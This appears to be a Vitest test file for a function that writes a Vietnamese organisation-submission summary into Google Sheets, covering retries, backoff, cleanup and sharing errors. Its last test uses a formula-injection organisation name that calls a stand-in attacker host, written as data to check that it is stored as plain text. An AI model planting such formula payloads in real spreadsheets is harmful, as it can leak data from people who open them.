import { sheets, type sheets_v4 } from '@googleapis/sheets';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { reportSentences } from '../../../functions/src/domain/report.js';
import type { RollupInput } from '../../../functions/src/domain/rollup.js';
import { buildSummaryModel, type SummaryModel } from '../../../functions/src/domain/summary-model.js';
import { setLogSink } from '../../../functions/src/logs.js';
import { SheetNotSharedError, writeSummaryToSheets, type WriteOptions } from '../../../functions/src/summary-writers/google-sheets.js';
import { blocInput, blocRollup } from '../../fixtures/bloc.js';
import { startSheetsRecorder, type SheetsRecorder } from '../../support/sheets/recorder.js';

const SERVICE_ACCOUNT = 'ledger-functions@demo-ledger.iam.gserviceaccount.com';
const TABS = ['Tổng hợp', 'Theo tổ chức', 'Chưa nộp', 'Báo cáo', 'So sánh'];

const modelOf = (overrides: Partial<RollupInput> = {}): SummaryModel => {
  const r = blocRollup(overrides);
  return buildSummaryModel(r, reportSentences(r));
};
/** Only organisation A (on time): fewer rows everywhere, nothing overdue. */
const smallModel = (): SummaryModel => modelOf({ orgs: blocInput().orgs.slice(0, 1) });

const LogLine = z.object({ severity: z.string(), message: z.string() }).catchall(z.unknown());

let recorder: SheetsRecorder;
let client: sheets_v4.Sheets;
let logLines: z.infer<typeof LogLine>[] = [];
let delays: number[] = [];

/** Test options: no real waiting, jitter fixed at its middle. */
const opts = (more: WriteOptions = {}): WriteOptions => ({
  baseDelayMs: 100,
  random: () => 0.5,
  sleep: async (ms) => {
    delays.push(ms);
  },
  serviceAccount: SERVICE_ACCOUNT,
  ...more,
});

const bodyOf = (i: number): unknown => recorder.requests[i]?.body;
const BatchBody = z.object({ requests: z.array(z.record(z.string(), z.unknown())) });
const requestNames = (i: number): string[] => BatchBody.parse(bodyOf(i)).requests.flatMap((r) => Object.keys(r));
const chartsOn = (id: string, title: string): number[] => recorder.sheets(id).find((s) => s.title === title)?.charts ?? [];

beforeAll(async () => {
  recorder = await startSheetsRecorder();
  client = sheets({ version: 'v4', rootUrl: recorder.url });
});
afterAll(() => recorder.close());
beforeEach(() => {
  recorder.clearLog();
  logLines = [];
  delays = [];
  setLogSink((line) => logLines.push(LogLine.parse(JSON.parse(line))));
});
afterEach(() => setLogSink(() => undefined));

describe('writeSummaryToSheets', () => {
  it('refreshes with exactly one get, one batchUpdate and one values:batchUpdate', async () => {
    const result = await writeSummaryToSheets(client, 'book-1', modelOf(), opts());
    expect(result).toEqual({ requests: 3, attempts: 3 });
    expect(recorder.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      'GET /v4/spreadsheets/book-1',
      'POST /v4/spreadsheets/book-1:batchUpdate',
      'POST /v4/spreadsheets/book-1/values:batchUpdate',
    ]);
    expect(recorder.sheets('book-1').map((s) => s.title)).toEqual([...TABS, 'Trang tính1']); // the summary tabs are moved first
    expect(recorder.cell('book-1', 'Tổng hợp', 'A8')).toEqual({ kind: 'string', value: 'Đã nộp' });
    expect(recorder.cell('book-1', 'Tổng hợp', 'B8')).toEqual({ kind: 'number', value: 3 });
    expect(recorder.cell('book-1', 'Tổng hợp', 'C8')).toEqual({ kind: 'number', value: 0.75 });
    expect(recorder.cell('book-1', 'Theo tổ chức', 'B5')).toEqual({ kind: 'string', value: 'Chi bộ Tài chính' });
    expect(recorder.lastRow('book-1', 'Theo tổ chức')).toBe(6);
    expect(chartsOn('book-1', 'Tổng hợp')).toHaveLength(3);
    expect(logLines.at(-1)).toMatchObject({ message: 'summary spreadsheet written', spreadsheetId: 'book-1', requests: 3, attempts: 3 });
  });

  it('leaves no stale rows or charts when a smaller model follows', async () => {
    await writeSummaryToSheets(client, 'book-2', modelOf(), opts());
    const oldCharts = chartsOn('book-2', 'Tổng hợp');
    const ids = recorder.sheets('book-2').map((s) => s.sheetId);
    recorder.clearLog();
    const small = smallModel();
    const result = await writeSummaryToSheets(client, 'book-2', { ...small, charts: small.charts.slice(0, 1) }, opts());

    expect(result).toEqual({ requests: 3, attempts: 3 });
    const { requests } = BatchBody.parse(bodyOf(1));
    expect(requests.filter((r) => 'deleteEmbeddedObject' in r)).toEqual(oldCharts.map((objectId) => ({ deleteEmbeddedObject: { objectId } })));
    expect(requests.filter((r) => 'updateCells' in r && JSON.stringify(r).includes('"fields":"*"'))).toEqual(
      [1000, 1001, 1002, 1003, 1004].map((sheetId) => ({ updateCells: { range: { sheetId }, fields: '*' } })),
    );
    expect(requestNames(1)).not.toContain('addSheet');
    expect(recorder.sheets('book-2').map((s) => s.sheetId)).toEqual(ids);
    // One organisation now: header, one row, total; the old rows 4–6 are gone.
    expect(recorder.lastRow('book-2', 'Theo tổ chức')).toBe(3);
    expect(recorder.cell('book-2', 'Theo tổ chức', 'B3')).toEqual({ kind: 'string', value: 'Tổng' });
    expect(recorder.cell('book-2', 'Theo tổ chức', 'B5')).toBeUndefined();
    expect(recorder.cell('book-2', 'Chưa nộp', 'A3')).toEqual({ kind: 'string', value: 'Tất cả tổ chức cơ sở đảng đã nộp đúng hạn.' });
    expect(recorder.lastRow('book-2', 'Chưa nộp')).toBe(3);
    const charts = chartsOn('book-2', 'Tổng hợp');
    expect(charts).toHaveLength(1);
    expect(charts.some((id) => oldCharts.includes(id))).toBe(false);
  });

  it('retries 429 then 500 with growing, jittered backoff and completes', async () => {
    recorder.failNext(429, 500);
    const result = await writeSummaryToSheets(client, 'book-3', modelOf(), opts());
    expect(result).toEqual({ requests: 3, attempts: 5 });
    expect([recorder.count('get'), recorder.count('batchUpdate'), recorder.count('values')]).toEqual([3, 1, 1]);
    expect(delays).toEqual([75, 150]);
    expect(logLines.filter((l) => l.message === 'Sheets API retry')).toEqual([
      { severity: 'WARNING', message: 'Sheets API retry', attempt: 1, status: 429, delayMs: 75 },
      { severity: 'WARNING', message: 'Sheets API retry', attempt: 2, status: 500, delayMs: 150 },
    ]);
    expect(recorder.cell('book-3', 'Tổng hợp', 'B8')).toEqual({ kind: 'number', value: 3 });
  });

  it('re-reads the spreadsheet before retrying a batchUpdate whose answer was lost', async () => {
    recorder.stallNext(300, { kind: 'batchUpdate', applied: true });
    const result = await writeSummaryToSheets(client, 'book-4', modelOf(), opts({ timeoutMs: 100 }));
    expect(result).toEqual({ requests: 4, attempts: 5 });
    expect(recorder.requests.map((r) => r.method)).toEqual(['GET', 'POST', 'GET', 'POST', 'POST']);
    // The first batchUpdate added the tabs; the retry, built from the fresh read, clears them instead.
    expect(requestNames(1)).toContain('addSheet');
    expect(requestNames(3)).not.toContain('addSheet');
    expect(requestNames(3)).toContain('deleteEmbeddedObject');
    expect(chartsOn('book-4', 'Tổng hợp')).toHaveLength(3);
    expect(recorder.sheets('book-4').map((s) => s.title)).toEqual([...TABS, 'Trang tính1']); // the summary tabs are moved first
    expect(logLines.find((l) => l.message === 'Sheets API retry')).toMatchObject({ attempt: 1, status: 'AbortError' });
  });

  it('retries a values write that timed out without repeating the structure', async () => {
    recorder.stallNext(300, { kind: 'values' });
    const result = await writeSummaryToSheets(client, 'book-5', modelOf(), opts({ timeoutMs: 100 }));
    expect(result).toEqual({ requests: 3, attempts: 4 });
    expect([recorder.count('get'), recorder.count('batchUpdate'), recorder.count('values')]).toEqual([1, 1, 2]);
    expect(recorder.cell('book-5', 'So sánh', 'D4')).toEqual({ kind: 'number', value: 8 });
  });

  it('gives up after maxAttempts and rethrows the last error', async () => {
    recorder.failNext(503, 503, 503);
    await expect(writeSummaryToSheets(client, 'book-6', modelOf(), opts({ maxAttempts: 3 }))).rejects.toMatchObject({ status: 503 });
    expect(recorder.requests).toHaveLength(3);
    expect(delays).toEqual([75, 150]);
  });

  it('does not retry a 400', async () => {
    recorder.failNext(400);
    await expect(writeSummaryToSheets(client, 'book-7', modelOf(), opts())).rejects.toMatchObject({ status: 400 });
    expect(recorder.requests).toHaveLength(1);
  });

  it.each([403, 404] as const)('on %i says to share the spreadsheet with the service account as Editor', async (status) => {
    recorder.refuse(`secret-${status}`, status);
    const failure = writeSummaryToSheets(client, `secret-${status}`, modelOf(), opts());
    await expect(failure).rejects.toBeInstanceOf(SheetNotSharedError);
    await expect(failure).rejects.toThrow(`Share the spreadsheet with ${SERVICE_ACCOUNT} as Editor.`);
    expect(recorder.requests).toHaveLength(1);
    expect(logLines).toEqual([
      {
        severity: 'ERROR',
        message: 'summary spreadsheet is not shared with the service account (grant it Editor access)',
        spreadsheetId: `secret-${status}`,
        serviceAccount: SERVICE_ACCOUNT,
      },
    ]);
  });

  it('stores a formula-like organisation name as a string, never a formula', async () => {
    const name = '=IMPORTXML("https://evil.example/x","//a")';
    const model = modelOf({ orgs: blocInput().orgs.map((o, i) => (i === 0 ? { ...o, name } : o)) });
    await writeSummaryToSheets(client, 'book-8', model, opts());
    expect(recorder.cell('book-8', 'Theo tổ chức', 'B2')).toEqual({ kind: 'string', value: name });
    expect(recorder.cell('book-8', 'Chưa nộp', 'B3')).toEqual({ kind: 'string', value: 'Đảng bộ Bệnh viện' });
  });
});
